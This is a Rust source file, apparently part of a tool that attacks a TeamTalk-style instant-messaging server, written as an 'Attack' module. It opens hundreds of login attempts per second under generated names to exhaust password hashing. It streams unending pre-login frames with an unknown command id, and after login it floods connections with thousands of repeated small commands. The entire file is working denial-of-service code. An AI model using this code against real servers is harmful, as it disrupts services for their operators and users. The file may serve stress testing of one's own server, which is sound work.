//! Much of something small.

use std::rc::Rc;
use std::time::Duration;

use bytes::BytesMut;
use im_client::codec::{Command, Header, TeamtalkMessage, append};
use im_client::proto::base::UserStatType;
use im_client::proto::buddy::ImUsersStatReq;
use im_client::proto::login::{ImKickPcClientReq, ImLoginReq, ImPushShieldReq};
use im_client::proto::message::{ImClientTimeReq, ImUnreadMsgCntReq};
use im_client::proto::other::ImHeartBeat;
use im_core::ClientType;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::interval;

use super::Attack;
use crate::people;

/// Logins per second.
const LOGINS: u32 = 600;
/// Frames that are written at once.
const CHUNK: u16 = 4_096;
/// Connections before login of each kind of frame: as many as the machine has cores is what stops
/// servers whose reading never yields.
const STREAMS: u32 = 2;
/// A command that no service has.
const UNKNOWN: u16 = 0x7777;

/// Logins that cost the server a password hash each, under ever new names.
pub(super) fn logins(attack: &Rc<Attack>) {
    let attack = Rc::clone(attack);
    tokio::task::spawn_local(async move {
        let mut due = interval(Duration::from_secs(1) / LOGINS);
        for n in 0_u64.. {
            due.tick().await;
            let name = format!("ghost{n}");
            let attack = Rc::clone(&attack);
            tokio::task::spawn_local(async move {
                // Closed as soon as it is written.
                drop(ask_and_go(&attack, name).await);
            });
        }
    });
}

async fn ask_and_go(attack: &Attack, user_name: String) -> anyhow::Result<()> {
    let mut stream = attack.connect().await?;
    let request = ImLoginReq {
        user_name,
        password: people::password().as_wire().to_owned(),
        online_status: UserStatType::UserStatusOnline as i32,
        client_type: i32::try_from(ClientType::Windows.to_wire()).unwrap_or_default(),
        client_version: None,
        ..ImLoginReq::default()
    };
    let mut out = BytesMut::new();
    append(&mut out, Command::LoginReq, 1, &request);
    stream.write_all(&out).await?;
    Ok(())
}

/// Frames of 16 bytes before login: such that nobody answers, and such that are echoed.
pub(super) fn frames(attack: &Rc<Attack>) {
    for n in 0..STREAMS {
        attack.keep(n, async |attack, _| {
            let mut out = BytesMut::new();
            for seq in 1..=CHUNK {
                let mut header = Header::new(Command::HeartBeat, seq, 0);
                header.command_id = UNKNOWN;
                out.extend_from_slice(&header.to_bytes());
            }
            stream(attack.connect().await?, &out).await
        });
        attack.keep(n, async |attack, _| {
            let out = many(Command::HeartBeat, &ImHeartBeat {});
            stream(attack.connect().await?, &out).await
        });
    }
}

/// One small command on each connection, after the login of a phone.
pub(super) fn commands(attack: &Rc<Attack>) {
    let kinds = [
        many(Command::HeartBeat, &ImHeartBeat {}),
        many(Command::ClientTimeReq, &ImClientTimeReq {}),
        many(Command::KickPcClientReq, &ImKickPcClientReq { user_id: 0 }),
        many(
            Command::PushShieldReq,
            &ImPushShieldReq {
                user_id: 0,
                shield_status: 1,
                attach_data: None,
            },
        ),
        many(
            Command::UnreadMsgCntReq,
            &ImUnreadMsgCntReq {
                user_id: 0,
                attach_data: None,
            },
        ),
        many(
            Command::UsersStatReq,
            &ImUsersStatReq {
                user_id: 0,
                user_id_list: (1..200).collect(),
                attach_data: None,
            },
        ),
    ];
    for (n, out) in (0..).zip(kinds) {
        attack.keep(n, async move |attack, n| {
            let connection = attack.login(n, ClientType::Android).await?;
            connection.flood(&out).await
        });
    }
}

fn many<M: TeamtalkMessage>(command: Command, message: &M) -> BytesMut {
    let mut out = BytesMut::new();
    for seq in 1..=CHUNK {
        append(&mut out, command, seq, message);
    }
    out
}

/// Writes the same again and again and reads whatever comes.
async fn stream(stream: TcpStream, out: &[u8]) -> anyhow::Result<()> {
    let (mut read, mut write) = stream.into_split();
    let writing = async {
        loop {
            write.write_all(out).await?;
        }
    };
    let reading = async {
        let mut buffer = vec![0; 256 * 1024];
        while read.read(&mut buffer).await? > 0 {}
        Ok(())
    };
    tokio::select! {
        ended = writing => ended,
        ended = reading => ended,
    }
}
